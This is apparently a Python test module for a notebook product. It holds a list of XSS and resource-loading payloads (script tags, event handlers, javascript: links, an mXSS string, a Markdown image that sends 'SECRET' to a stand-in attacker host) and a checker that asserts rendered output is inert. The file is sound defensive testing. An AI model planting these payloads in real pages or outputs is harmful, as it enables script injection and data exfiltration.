"""A corpus of markup that must never run or load anything once it is notebook output, and a checker.

Every payload that could run sets `window.__pwned` (the browser test reads it), and every one that
could load something points at ATTACKER (the browser test serves a loopback "attacker" there and
counts requests). `assert_inert` checks an HTML fragment statically: no element or attribute that can
run script, load a resource, or restyle the page survives.
"""

from __future__ import annotations

from html.parser import HTMLParser

ATTACKER = "http://127.0.0.1:{port}"

PAYLOADS = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned='onerror'\">",
    "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
    "<body onload=\"window.__pwned='onload'\">",
    "[click me](javascript:window.__pwned='js-link')",
    "<a href=\"javascript:window.__pwned='a-js'\">x</a>",
    '<iframe src="{attacker}/iframe"></iframe>',
    "<style>body {{ background: url({attacker}/style) }}</style>",
    '<div style="position:fixed;inset:0;background:url({attacker}/inline-style)">overlay</div>',
    "![exfil]({attacker}/md-image?k=SECRET)",
    "![exfil][ref]\n\n[ref]: {attacker}/md-ref-image",
    '<img src="{attacker}/raw-img">',
    '<object data="{attacker}/object"></object><embed src="{attacker}/embed">',
    '<form action="{attacker}/form"><input autofocus onfocus="window.__pwned=\'focus\'"></form>',
    '<link rel=stylesheet href="{attacker}/link"><meta http-equiv=refresh content="0;url={attacker}/meta">',
    '<video><source onerror="window.__pwned=\'video\'"></video><audio src="{attacker}/audio"></audio>',
    "<details open ontoggle=\"window.__pwned='toggle'\">d</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
]


def corpus(port: int = 9) -> str:
    """Every payload, in Markdown around ordinary content (a table, a code block, a heading)."""
    attacker = ATTACKER.format(port=port)
    body = "\n\n".join(p.format(attacker=attacker) for p in PAYLOADS)
    return f"# Findings\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode <here>\n```\n\n{body}\n"


_NEVER = {"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "link", "meta",
          "video", "audio", "source", "body", "base", "frame", "frameset"}  # fmt: skip


class _Check(HTMLParser):
    def __init__(self, host_styles: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.host_styles = host_styles
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name == "style" and self.host_styles and not any(s in value for s in ("url(", "fixed", "@")):
                continue
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "data", "poster") and value.startswith(
                ("javascript:", "vbscript:")
            ):
                self.problems.append(f"<{tag} {name}={value[:30]}>")
            if name in ("src", "data", "poster") and not value.startswith("data:image/png;base64,"):
                self.problems.append(f"<{tag} {name}={value[:40]}> loads something")
            if name == "href" and tag != "a":
                self.problems.append(f"<{tag} href>")


def assert_inert(fragment: str, *, host_styles: bool = False) -> None:
    """Fail when `fragment` holds anything that runs, loads or (unless host_styles) restyles.

    `host_styles=True` is for the product's own frames, whose `style` attributes are fixed strings.
    """
    check = _Check(host_styles)
    check.feed(fragment)
    problems = check.problems
    assert not problems, f"live markup in the output: {problems}"
